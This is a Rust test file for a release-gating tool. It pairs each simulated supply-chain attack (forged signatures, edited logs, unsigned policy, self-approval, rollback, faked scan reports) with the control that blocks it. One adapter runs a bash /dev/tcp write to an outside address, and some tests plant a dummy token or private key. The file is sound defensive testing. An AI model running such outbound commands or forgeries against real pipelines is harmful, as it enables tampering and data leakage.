//! Each control is what stops its attack: the attack is refused, and with that one control removed it succeeds. Only a
//! build with `--cfg plimsoll_sensitivity` can remove a control (`make sensitivity`); elsewhere this file is empty, and a
//! test of the released binary shows that it has no such thing (`it/released.rs`).
#![cfg(plimsoll_sensitivity)]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "these are tests")]
#![allow(dead_code, reason = "the modules below serve other tests too")]

#[path = "it/processes.rs"]
mod processes;
#[path = "it/service.rs"]
mod service;
#[path = "it/world.rs"]
mod world;

use plimsoll_attest::{Bundle, TrustRoot, Verified, seal};
use plimsoll_engine::{
    fetch::Lock,
    ports::{Exit, Signer as _},
    signer::{self, CloseCheck, Key as _, Open, Request, Response},
};
use plimsoll_model::{
    Code, Digest, Outcome, Role, RunId, Timestamp,
    record::{IsolationRecord, Material},
    sensitivity,
};
use plimsoll_policy::{DossierParts, Observed, Start, Verdict, dossier, permit};
use plimsoll_sign::{RoleKeys, SignerProcess};
use plimsoll_testkit::SshKey;
use service::Shop;
use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::Stdio,
};
use world::{Ran, World, pipeline, text};

/// The attack is refused with these codes, and succeeds without the control.
fn twins(control: &str, codes: &[&str], attack: impl Fn(&[&str]) -> Ran) {
    attack(&[]).ended(1).refused(codes);
    attack(&["--without-control", control]).ok();
}

fn promote<'a>(shop: &'a Shop) -> impl Fn(&[&str]) -> Ran + 'a {
    |without| shop.world.json(&[without, &["promote", "shop", "--to", "local"]].concat())
}

fn verify<'a>(world: &'a World, words: &'a [&str]) -> impl Fn(&[&str]) -> Ran + 'a {
    move |without| world.json(&[without, &["verify"], words].concat())
}

/// A world with a run, and the bundle of its provenance.
fn built() -> (World, PathBuf) {
    let world = World::new(&pipeline("echo x > out/x"));
    let run = world.json(&["run"]).ok().value();
    let statements = run["statements"].as_array().unwrap();
    let provenance = statements.iter().find(|statement| statement["name"] == "artifact").unwrap();
    let bundle = world.blob(&provenance["bundle"]);
    (world, bundle)
}

fn keys(world: &World) -> RoleKeys {
    RoleKeys::new(world.state().join("keys"))
}

/// A bundle around `payload`, signed by the key of a role of this world.
fn signed(world: &World, role: &Role, payload: &[u8]) -> Vec<u8> {
    let key = keys(world).load(role).unwrap();
    seal::<()>(payload, key.public(), |message| Ok(key.sign(message))).unwrap()
}

#[test]
fn this_binary_can_remove_controls() {
    assert!(fs::read(env!("CARGO_BIN_EXE_plimsoll")).unwrap().windows(15).any(|at| at == b"without-control"));
}

#[test]
fn a_changed_statement() {
    let (world, bundle) = built();
    let bundle = Bundle::parse(&fs::read(bundle).unwrap()).unwrap();
    let said = String::from_utf8(bundle.envelope().payload.clone()).unwrap();
    let key = keys(&world).load(&Role::Builder).unwrap();
    let signature = bundle.envelope().signatures[0].sig.clone();
    let changed = said.replacen(world.repository.head().as_str(), &"0".repeat(40), 1);
    assert_ne!(said, changed);
    let changed = seal::<()>(changed.as_bytes(), key.public(), |_| Ok(signature)).unwrap();
    let file = world.scratch("changed", &changed);
    twins("signature", &["E-SIGNATURE"], verify(&world, &[file.to_str().unwrap()]));
}

#[test]
fn a_provenance_by_the_key_for_test_results() {
    let (world, bundle) = built();
    let payload = Bundle::parse(&fs::read(bundle).unwrap()).unwrap().envelope().payload.clone();
    let file = world.scratch("forged", &signed(&world, &Role::Scanner, &payload));
    twins("role", &["E-ROLE"], verify(&world, &[file.to_str().unwrap()]));
}

#[test]
fn the_statement_of_another_artifact() {
    let (world, bundle) = built();
    let other = world.scratch("other", b"not what was built");
    let words = [bundle.to_str().unwrap(), "--subject", other.to_str().unwrap()];
    twins("subject", &["E-SUBJECT"], verify(&world, &words));
}

#[test]
fn an_edited_journal() {
    let (world, _) = built();
    let path = world.state().join("journal.jsonl");
    let honest = fs::read_to_string(&path).unwrap();
    let edited = honest.replacen("passed", "failed", 1);
    assert_ne!(honest, edited);
    fs::write(&path, edited).unwrap();
    twins("journal-chain", &["E-LOG-EDITED"], |without| world.json(&[without, &["run"]].concat()));
}

#[test]
fn a_package_with_another_content_than_was_locked() {
    let checksum = Digest::of(b"honest").hex();
    let lock = format!(
        "version = 4\n\n[[package]]\nname = \"shelf\"\nversion = \"1.0.0\"\n\
         source = \"registry+https://registry.example/index\"\nchecksum = \"{checksum}\"\n"
    );
    let lock = Lock::parse(lock.as_bytes()).unwrap();
    let fetched = [Material { uri: "pkg:cargo/shelf@1.0.0".into(), digest: Digest::of(b"evil") }];
    assert_eq!(lock.disagreements(&fetched)[0].code, Code::LockHash);
    sensitivity::remove(["lock-hash".to_owned()]);
    assert_eq!(lock.disagreements(&fetched), []);
}

#[test]
fn a_release_whose_test_failed() {
    let shop = Shop::new();
    shop.world.repository.write("broken", "");
    shop.commit_version("v2");
    shop.world.json(&["run"]).ended(1);
    twins("tests", &["E-EVIDENCE-FAILED"], promote(&shop));
    assert_eq!(shop.answer().as_deref(), Some("v2"));
}

/// A shop whose environment asks for a scan of its configuration, and a commit with this Dockerfile that ran.
fn scanned(dockerfile: &str) -> Shop {
    let shop = Shop::from(&["local"], |world| {
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + "  - {scan: [config]}\n");
        world.repository.write("Dockerfile", dockerfile);
    });
    shop.world.json(&["run"]).ok();
    shop
}

#[test]
fn a_release_in_which_a_scan_found_a_secret() {
    let shop = scanned("FROM scratch\nENV API_TOKEN=tr0ub4dor\nUSER 10001:10001\n");
    twins("scans", &["E-EVIDENCE-FAILED"], promote(&shop));
    assert_eq!(shop.answer().as_deref(), Some("v1"));
}

/// A31c: the project that is looked at says that there is nothing to see.
#[test]
fn a_finding_that_the_source_silences() {
    let allow = "# plimsoll:allow config/dockerfile-secret-in-env nothing to see";
    let shop = scanned(&format!("FROM scratch\n{allow}\nENV API_TOKEN=tr0ub4dor\nUSER 10001:10001\n"));
    twins("scan-comments", &["E-EVIDENCE-CONFIG"], promote(&shop));
}

/// A31c: the machine that scans was given rules that find nothing.
#[test]
fn a_scan_by_other_rules_than_the_environment_names() {
    let shop = Shop::from(&["local"], |world| {
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + "  - {scan: [secrets]}\n");
    });
    let named = format!("secrets: {{block: high, rules: \"{}\"}}", Digest::of(b"the rules of the team"));
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        assert!(text.contains("secrets: {block: high}"), "{text}");
        text.replace("secrets: {block: high}", &named)
    });
    let rules =
        shop.world.scratch("none.toml", b"[[rules]]\nid = 'none'\nregex = 'plimsoll-zq7x-[0-9]{9}'\n");
    shop.world.json(&["rules", "import", rules.to_str().unwrap()]).ok();
    shop.world.json(&["run"]).ok();
    twins("scan-rules", &["E-EVIDENCE-RULES"], promote(&shop));
}

/// Adds a file to the delivery repository.
fn added(shop: &Shop, path: &str, text: &str) {
    let delivery = shop.world.delivery();
    let file = delivery.join(path);
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(file, text).unwrap();
    for command in [["add", "."].as_slice(), &["commit", "-qm", "more"]] {
        let ran = shop.world.repository.command(&delivery).args(command).status();
        assert!(ran.unwrap().success());
    }
}

/// Somebody answered for a finding, until a day that is over.
#[test]
fn a_finding_whose_exception_ended() {
    let shop = scanned("FROM scratch\nENV API_TOKEN=tr0ub4dor\nUSER 10001:10001\n");
    let people = fs::read_to_string(shop.world.delivery().join("people.yaml")).unwrap();
    let owner = people.split("name: ").nth(1).unwrap().lines().next().unwrap();
    let exceptions = format!(
        "version: 1\nexceptions:\n- scan: config\n  rule: config/dockerfile-secret-in-env\n  path: Dockerfile\n  \
         owner: {owner}\n  reason: a test\n  expires: 2026-01-01\n"
    );
    added(&shop, "environments/local/shop/exceptions.yaml", &exceptions);
    shop.world.sign_policy();
    twins("exception-expiry", &["E-EVIDENCE-FAILED"], promote(&shop));
}

/// Whoever may push to the delivery repository says that a vulnerability does not matter.
#[test]
fn a_vex_document_that_nobody_signed() {
    let lock = "version = 4\n\n[[package]]\nname = \"smallvec\"\nversion = \"1.6.0\"\n\
                source = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
    let shop = Shop::from(&["local"], |world| {
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + "  - {scan: [dependencies]}\n");
        world.repository.write("Cargo.lock", lock);
    });
    let record = shop.world.scratch(
        "RUSTSEC-2021-0003.json",
        br#"{"id":"RUSTSEC-2021-0003","modified":"2023-06-13T13:10:24Z",
        "affected":[{"package":{"ecosystem":"crates.io","name":"smallvec"},"ranges":[{"type":"SEMVER",
        "events":[{"introduced":"0.6.3"},{"fixed":"1.6.1"}]}]}]}"#,
    );
    let records = record.with_file_name("osv");
    fs::create_dir(&records).unwrap();
    fs::rename(&record, records.join("RUSTSEC-2021-0003.json")).unwrap();
    shop.world.json(&["advisories", "import", records.to_str().unwrap()]).ok();
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        let people = fs::read_to_string(shop.world.delivery().join("people.yaml")).unwrap();
        let named = people.split("name: ").nth(1).unwrap().lines().next().unwrap();
        text.replace("dependencies: {block: high", &format!("dependencies: {{vex: [{named}], block: high"))
    });
    shop.commit_version("v2");
    shop.world.json(&["run"]).ok();
    let document = r#"{"@context":"https://openvex.dev/ns/v0.2.0","@id":"doc","statements":[{"vulnerability":
        {"name":"RUSTSEC-2021-0003"},"products":[{"@id":"pkg:cargo/smallvec@1.6.0"}],"status":"not_affected"}]}"#;
    added(&shop, "vex/smallvec.json", document);
    twins("vex-signer", &["E-EVIDENCE-FAILED"], promote(&shop));
}

#[test]
fn a_release_whose_list_of_packages_lacks_something() {
    let shop = Shop::from(&["local"], |world| {
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + "  - {scan: [sbom]}\n");
        world.repository.write("requirements.txt", "flask>=2\n");
    });
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        text.replace("sbom: any", "sbom: complete")
    });
    shop.world.json(&["run"]).ok();
    twins("sbom", &["E-EVIDENCE-INCOMPLETE"], promote(&shop));
}

/// Whoever may push to the delivery repository, but not sign its rules, asks for less.
#[test]
fn rules_that_nobody_signed() {
    let shop = Shop::new();
    shop.world.repository.write("broken", "");
    shop.commit_version("v2");
    shop.world.json(&["run"]).ended(1);
    let file = shop.world.delivery().join("environments/local/environment.yaml");
    let honest = fs::read_to_string(&file).unwrap();
    let weaker: String = honest.split_inclusive('\n').filter(|line| !line.contains("tests:")).collect();
    assert_ne!(honest, weaker);
    fs::write(&file, weaker).unwrap();
    let commit =
        shop.world.repository.command(&shop.world.delivery()).args(["commit", "-qam", "less"]).status();
    assert!(commit.unwrap().success());
    twins("policy-files", &["E-POLICY-UNSIGNED"], promote(&shop));
}

#[test]
fn a_pipeline_that_is_not_approved_any_more() {
    let shop = Shop::new();
    shop.world.plimsoll(&["run"]).ok();
    shop.world.change_delivery("projects/shop.yaml", |text| {
        let at = text.find("sha256:").unwrap() + "sha256:".len();
        let other = if text[at..].starts_with('0') { "1" } else { "0" };
        format!("{}{other}{}", &text[..at], &text[at + 1..])
    });
    twins("pipeline-approved", &["E-PIPE-UNAPPROVED"], promote(&shop));
}

#[test]
fn a_branch_that_nobody_protects() {
    let shop = Shop::new();
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        text.split_inclusive('\n').filter(|line| !line.contains("source: {")).collect()
    });
    shop.world.repository.branch("feature");
    shop.commit_version("v2");
    shop.world.plimsoll(&["run"]).ok();
    twins("tier", &["E-TIER"], promote(&shop));
}

#[test]
fn a_builder_that_the_environment_does_not_believe() {
    let shop = Shop::new();
    shop.world
        .change_delivery("environments/local/environment.yaml", |text| text.replace("[local]", "[farm]"));
    shop.world.plimsoll(&["run"]).ok();
    twins("builder", &["E-BUILDER"], promote(&shop));
}

/// A shop where two people must approve (one, and one more since commits are not signed), and two who may beside its
/// author. The first version was refused, since nobody did.
fn with_approvals() -> (Shop, [SshKey; 2]) {
    let shop = Shop::new();
    let people = ["bob", "dora"].map(|name| (name, SshKey::generate()));
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        let approvals =
            "  approvals: {count: 1, from: [release-managers], expire: 24h, unsigned: extra-approval}\n";
        format!("{}\n{approvals}", text.trim_end())
    });
    shop.world.change_delivery("people.yaml", |text| {
        let person = |(name, key): &(&str, SshKey)| {
            let key = key.public_line();
            format!("  - {{name: {name}, git-emails: [{name}@example.org], ssh-keys: [\"{key}\"], roles: [release-managers]}}\n")
        };
        let people: String = people.iter().map(person).collect();
        format!("{}\n{people}", text.trim_end())
    });
    shop.world.plimsoll(&["run"]).ok();
    shop.promote().ended(1).refused(&["E-APPR-QUORUM"]);
    (shop, people.map(|(_, key)| key))
}

fn approve(shop: &Shop, key: &SshKey) {
    let key = key.private_path();
    shop.world.json(&["approve", "shop@local", "--yes", "--key", key.to_str().unwrap()]).ok();
}

#[test]
fn an_author_who_approves_their_own_change() {
    let (shop, [bob, _]) = with_approvals();
    approve(&shop, &shop.world.person);
    approve(&shop, &bob);
    twins("approval-self", &["E-APPR-QUORUM", "E-APPR-SELF"], promote(&shop));
    assert_eq!(shop.answer().as_deref(), Some("v1"));
}

#[test]
fn an_approval_of_another_release() {
    let (shop, [bob, dora]) = with_approvals();
    approve(&shop, &bob);
    approve(&shop, &dora);
    shop.commit_version("v2");
    shop.world.plimsoll(&["run"]).ok();
    twins("approval-about", &["E-APPR-QUORUM", "E-APPR-RELEASE"], promote(&shop));
    assert_eq!(shop.answer().as_deref(), Some("v2"));
}

/// The dossier of the newest decision.
fn newest_dossier(shop: &Shop, name: &str) -> PathBuf {
    let file = shop.world.scratch(name, b"");
    shop.world.json(&["dossier", "shop@local", "--output", file.to_str().unwrap()]).ok();
    file
}

fn read_dossier(file: &Path) -> (DossierParts, TrustRoot) {
    let parts = dossier::read(&fs::read(file).unwrap()).unwrap();
    let signatures: Vec<&str> = parts.root_signatures.iter().map(String::as_str).collect();
    let root = TrustRoot::accept(&parts.root, &signatures, None).unwrap();
    (parts, root)
}

fn decision(file: &Path) -> Verified<plimsoll_attest::Statement<plimsoll_policy::Summary>> {
    let (parts, root) = read_dossier(file);
    dossier::recompute(&parts, &root, &BTreeSet::new()).unwrap()
}

/// Somebody has the key of the environment's decisions, and signs what the rules refuse.
#[test]
fn a_decision_that_does_not_follow_from_the_evidence() {
    let shop = Shop::new();
    shop.world.repository.write("broken", "");
    shop.commit_version("v2");
    shop.world.json(&["run"]).ended(1);
    shop.promote().ended(1);
    let refused = newest_dossier(&shop, "refused.tar");
    let summary = decision(&refused).value().predicate.clone();
    let mut forged = summary.decision;
    (forged.verdict, forged.counter) = (Verdict::Allow, Some(1));
    for gate in &mut forged.gates {
        (gate.outcome, gate.reasons) = (Outcome::Passed, vec![]);
    }
    let statement = forged.into_statement(summary.time_verified, summary.input_attestations);
    let role = Role::Decision("local".parse().unwrap());
    let bundle = signed(&shop.world, &role, &statement.to_bytes().unwrap());
    let parts = DossierParts { decision: bundle, ..read_dossier(&refused).0 };
    let file = shop.world.scratch("forged.tar", &dossier::write(&parts).unwrap());
    twins("recompute", &["E-DECISION-MISMATCH"], verify(&shop.world, &[file.to_str().unwrap()]));
}

/// An older decision again, to whoever knows where the environment stands.
#[test]
fn a_decision_that_was_followed_by_another() {
    let shop = Shop::new();
    shop.deliver("v1 again");
    let first = decision(&newest_dossier(&shop, "first.tar"));
    shop.deliver("v2");
    let second = decision(&newest_dossier(&shop, "second.tar"));
    let (old, new) = (&first.value().predicate, &second.value().predicate.decision);
    let observed = Observed {
        environment: old.decision.environment.clone(),
        project: old.decision.project.clone(),
        release: old.decision.release_digest,
        current: Some((*second.payload_digest(), new.counter.unwrap())),
    };
    let ask = || permit(&first, &observed, Start::New, old.time_verified);
    assert_eq!(ask().unwrap_err().code, Code::Rollback);
    sensitivity::remove(["permit-chain".to_owned()]);
    assert_eq!(ask().unwrap().release(), &old.decision.release_digest);
}

/// The same to a machine, by the dossier of that time.
#[test]
fn a_release_that_this_machine_has_left_behind() {
    let shop = Shop::new();
    shop.deliver("v1 again");
    let dossier = Digest::of(&fs::read(newest_dossier(&shop, "first.tar")).unwrap()).to_string();
    shop.deliver("v2");
    let words = ["__supervisor", "shop@local", "--dossier", &dossier, "--why", "new"];
    let told = shop.world.plimsoll(&words).ok();
    let told: serde_json::Value = serde_json::from_str(&told.stdout).unwrap();
    assert_eq!(text(&told["reasons"][0]["code"]), "E-ROLLBACK");
    assert_eq!(shop.answer().as_deref(), Some("v2"));

    let mut attack = shop.world.command(&[&["--without-control", "highest-started"], &words[..]].concat());
    let mut supervisor = attack.stdout(Stdio::null()).spawn().unwrap();
    processes::until("the older release serves", || shop.answer().as_deref() == Some("v1 again"));
    shop.world.plimsoll(&["stop", "shop@local"]).ok();
    supervisor.wait().unwrap();
}

const CLEAN: &str =
    r#"{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"lint","rules":[{"id":"a"}]}},"results":[]}]}"#;

/// An adapter that runs this script and then reports this, as an item of `evidence:`.
fn adapter(script: &str, report: &str) -> String {
    format!(
        "  - adapter: lint\n    tool: sh\n    run: |\n      printf '%s' '{report}' > report/lint.sarif\n      {script}\n    \
         report: {{sarif: report/lint.sarif}}\n"
    )
}

/// A run whose only evidence is that adapter.
fn adapted(script: &str, report: &str) -> World {
    let rest = format!("evidence:\n{}", adapter(script, report));
    World::new(&world::pipeline_with("echo x > out/x", "out: [out]", &rest))
}

fn run(world: &World) -> impl Fn(&[&str]) -> Ran + '_ {
    move |without| world.json(&[without, &["run"]].concat())
}

#[test]
fn a13b_a_scanner_that_asks_for_the_network() {
    let world = adapted("bash -c 'echo x > /dev/tcp/192.0.2.1/443' || true", CLEAN);
    twins("network-attempts", &["E-EVIDENCE-TAINTED"], run(&world));
}

#[test]
fn a13g_a_tool_that_nobody_listed() {
    let shop = Shop::from(&["local"], |world| {
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + &adapter("true", CLEAN));
    });
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        let listed = Digest::of(b"the tool that somebody looked at");
        format!("{}\n  scans: {{lint: {{block: error, tool: \"{listed}\"}}}}\n", text.trim_end())
    });
    shop.world.json(&["run"]).ok();
    twins("scan-tool", &["E-EVIDENCE-TOOL"], promote(&shop));
}

#[test]
fn a13h_a_report_about_another_revision() {
    let other = format!(r#""versionControlProvenance":[{{"revisionId":"{}"}}],"results""#, "0".repeat(40));
    let world = adapted("true", &CLEAN.replace("\"results\"", &other));
    twins("report-revision", &["E-EVIDENCE-SUBJECT"], run(&world));
}

#[test]
fn a20d_a_pushed_secret() {
    let world = World::empty();
    let key = fs::read(SshKey::generate().private_path()).unwrap();
    world.repository.write("key.pem", key);
    world.repository.git(&["add", "-A"]);
    world.json(&["hook", "pre-commit"]).ended(1).refused(&["E-SRC-SECRET"]);
    world.plimsoll(&["--without-control", "pushed-secret", "hook", "pre-commit"]).ok();
}

/// The report has a rule and says nothing of results: a tool that could not start.
#[test]
fn a31a_an_empty_report() {
    let world = adapted("true", &CLEAN.replace(r#","results":[]"#, ""));
    twins("report-empty", &["E-EVIDENCE-EMPTY"], run(&world));
}

/// Scans of ours that know none of the files, or have no rules.
#[test]
fn a31b_a_scan_that_looked_at_nothing() {
    for scan in ["config", "malware"] {
        let rest = format!("evidence:\n  - {{scan: [{scan}]}}\n");
        let world = World::new(&world::pipeline_with("echo x > out/x", "out: [out]", &rest));
        twins("report-empty", &["E-EVIDENCE-EMPTY"], run(&world));
    }
}

/// A scanner by a manifest of the project, where the environment wants the one that comes with the program.
#[test]
fn a31e_another_manifest() {
    const MANIFEST: &str = "version: 1\nname: mine\nabout: Nothing\ntool: {executable: cat, install: apt-get install coreutils}\n\
        input: {kind: source}\narguments: [\"{subject}/clean.sarif\"]\nreport: {format: sarif, at: stdout, rules: 1}\n";
    let shop = Shop::from(&["local"], |world| {
        let check = "  - {adapter: mine, manifest: mine.yaml}\n";
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("mine.yaml", MANIFEST);
        world.repository.write("clean.sarif", CLEAN);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + check);
    });
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        let line = text.lines().find(|line| line.starts_with("  scans: ")).unwrap();
        text.replace(line, "  scans: {mine: {block: high, manifest: ready}}")
    });
    shop.world.json(&["run"]).ok();
    twins("scan-manifest", &["E-EVIDENCE-TOOL"], promote(&shop));
}

#[test]
fn a31g_a_flag_of_the_pipeline() {
    let flag = r#""invocations":[{"executionSuccessful":true}],"properties":{"passed":true},"results""#;
    let world = adapted("exit 1", &CLEAN.replace("\"results\"", flag));
    twins("report-exit", &["E-EVIDENCE-SELF"], run(&world));
}

const LOCK: &str = "version = 4\n\n[[package]]\nname = \"shelf\"\nversion = \"1.0.0\"\n\
                    source = \"registry+https://github.com/rust-lang/crates.io-index\"\n";

/// Takes advisories into use whose newest record is of this day.
fn import(world: &World, day: &str) {
    let directory = world.scratch("marker", b"").with_file_name(format!("osv-{day}"));
    fs::create_dir(&directory).unwrap();
    let record = format!(
        r#"{{"id":"RUSTSEC-2021-0003","modified":"{day}T00:00:00Z","affected":[{{"package":{{"ecosystem":"crates.io","name":"other"}},
            "ranges":[{{"type":"SEMVER","events":[{{"introduced":"0.6.3"}},{{"fixed":"1.6.1"}}]}}]}}]}}"#
    );
    fs::write(directory.join("RUSTSEC-2021-0003.json"), record).unwrap();
    world.json(&["advisories", "import", directory.to_str().unwrap()]).ok();
}

#[test]
fn a31d_old_advisories() {
    let shop = Shop::from(&["local"], |world| {
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + "  - {scan: [dependencies]}\n");
        world.repository.write("Cargo.lock", LOCK);
    });
    shop.world.change_delivery("environments/local/environment.yaml", |text| {
        text.replace("dependencies: {block: high}", "dependencies: {block: high, database-age: 24h}")
    });
    import(&shop.world, "2023-06-13");
    shop.world.json(&["run"]).ok();
    twins("scan-age", &["E-EVIDENCE-STALE"], promote(&shop));
}

/// Somebody who has taken an executor over: speaks to the real signers, each time in a run of its own.
fn forged(world: &World, number: u8, without: &[&str], report: &Path) -> Vec<Code> {
    forged_as("dependencies", world, number, without, report)
}

fn forged_as(check: &str, world: &World, number: u8, without: &[&str], report: &Path) -> Vec<Code> {
    let repository = world.repository.path();
    let process = |role: Role| {
        let name = role.to_string();
        let words = ["__signer", "--role", &name, "--repository", repository.to_str().unwrap()];
        SignerProcess::start(role, world.command(&[without, &words].concat())).unwrap()
    };
    let open = Open {
        run: RunId::from_random([number; 16]),
        requested: "HEAD".into(),
        reference: Some("refs/heads/main".into()),
        commit: world.repository.head(),
        subdirectory: None,
        parameters: BTreeMap::new(),
    };
    let (mut builder, mut scanner) = (process(Role::Builder), process(Role::Scanner));
    for signer in [&mut builder, &mut scanner] {
        let opened = signer.ask(&Request::Open(open.clone())).unwrap();
        assert!(matches!(opened, Response::Opened(_)), "{opened:?}");
    }
    let bytes = fs::read(report).unwrap();
    let blob = Digest::of(&bytes);
    fs::write(world.blob(&blob.to_string().into()), bytes).unwrap();
    let isolation = IsolationRecord {
        backend: "plimsoll".into(),
        namespaces: vec![],
        landlock_abi: 0,
        seccomp: None,
        unprivileged: true,
        own_uid: true,
        limits: BTreeMap::new(),
        network_attempts: Some(0),
    };
    let now = Timestamp::now();
    let close = CloseCheck {
        check: check.parse().unwrap(),
        attempt: 1,
        observed: signer::Observed {
            exit: Exit::Status(0),
            log: blob,
            isolation,
            started: now,
            finished: now,
        },
        report: Some(blob),
        artifact: None,
        tool: Some(blob),
        data: None,
    };
    match scanner.ask(&Request::CloseCheck(close)).unwrap() {
        Response::Closed(closed) => closed.reasons.iter().map(|reason| reason.code).collect(),
        other => panic!("{other:?}"),
    }
}

/// A world with advisories of two days, and a report of a scan with the older ones.
fn outdated() -> (World, PathBuf) {
    let rest = "evidence:\n  - {scan: [dependencies]}\n";
    let world = World::empty();
    world.repository.write("Cargo.lock", LOCK);
    world.commit_pipeline(&world::pipeline_with("echo x > out/x", "out: [out]", rest));
    import(&world, "2023-06-13");
    world.json(&["run"]).ok();
    let report = world.scratch("report.sarif", b"");
    world.plimsoll(&["scan", "dependencies", "--report", report.to_str().unwrap()]).ok();
    (world, report)
}

/// A31d: a scan says that it looked with other data than is in use.
#[test]
fn a31d_the_advisories_that_a_report_names() {
    let (world, report) = outdated();
    assert_eq!(forged(&world, 1, &[], &report), [], "benign twin");
    import(&world, "2026-01-01");
    assert_eq!(forged(&world, 2, &[], &report), [Code::EvidenceSelf]);
    assert_eq!(forged(&world, 3, &["--without-control", "scan-database"], &report), []);
}

/// A31c: a scan says that it applied other rules than this program has.
#[test]
fn a31c_the_rules_that_a_report_names() {
    let (world, report) = outdated();
    let rules = world.json(&["scan", "dependencies"]).value()["reports"][0]["rules_digest"].clone();
    let honest = fs::read_to_string(&report).unwrap();
    let fewer = honest.replace(text(&rules), &Digest::of(b"fewer rules").to_string());
    assert_ne!(honest, fewer);
    fs::write(&report, fewer).unwrap();
    assert_eq!(forged(&world, 2, &[], &report), [Code::EvidenceSelf]);
    assert_eq!(forged(&world, 3, &["--without-control", "reported-rules"], &report), []);
}

/// A31c: a scan says that it applied the rules that an environment asks for, and this machine has none of them.
#[test]
fn a31c_the_imported_rules_that_a_report_names() {
    let rest = "evidence:\n  - {scan: [secrets]}\n";
    let world = World::new(&world::pipeline_with("echo x > out/x", "out: [out]", rest));
    world.json(&["run"]).ok();
    let rules = world.scratch("acme.toml", b"[[rules]]\nid = 'acme-key'\nregex = 'acme_[a-z0-9]{12}'\n");
    let rules = rules.to_str().unwrap();
    let report = world.scratch("report.sarif", b"");
    world.plimsoll(&["scan", "secrets", "--rules", rules, "--report", report.to_str().unwrap()]).ok();
    assert_eq!(forged_as("secrets", &world, 1, &[], &report), [Code::EvidenceSelf]);
    let without = ["--without-control", "imported-rules"];
    assert_eq!(forged_as("secrets", &world, 2, &without, &report), []);
    world.plimsoll(&["rules", "import", rules]).ok();
    assert_eq!(forged_as("secrets", &world, 3, &[], &report), [], "benign twin");
}

/// A31b: a scanner of a running service reports that all is well, and never asked it.
#[test]
fn a31b_a_service_that_nobody_heard_from() {
    const MANIFEST: &str = "version: 1\nname: idle\nabout: Nothing\ntool: {executable: idle, install: write it}\n\
        input: {kind: service}\narguments: [\"{service}\"]\nreport: {format: sarif, at: stdout}\n";
    const REPORT: &str = r#"{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"idle","rules":[{"id":"any"}]}},"results":[]}]}"#;
    let shop = Shop::from(&["local"], |world| {
        let check =
            "  - {adapter: idle, manifest: idle.yaml, service: {run: [/artifact/service], port: 8080}}\n";
        world.repository.write_executable("service", &*service::EXECUTABLE);
        world.repository.write("idle.yaml", MANIFEST);
        world.repository.write("plimsoll.yaml", service::service_pipeline() + check);
    });
    let idle = shop.world.scratch("idle", format!("#!/bin/sh\necho '{REPORT}'\n").as_bytes());
    fs::set_permissions(&idle, fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("/usr/bin:/bin:{}", idle.parent().unwrap().display());
    shop.commit_version("v1");
    twins("service-answers", &["E-EVIDENCE-PARSE"], |without| {
        Ran::of(shop.world.command(&[&["--json"], without, &["run"]].concat()).env("PATH", &path))
    });
}
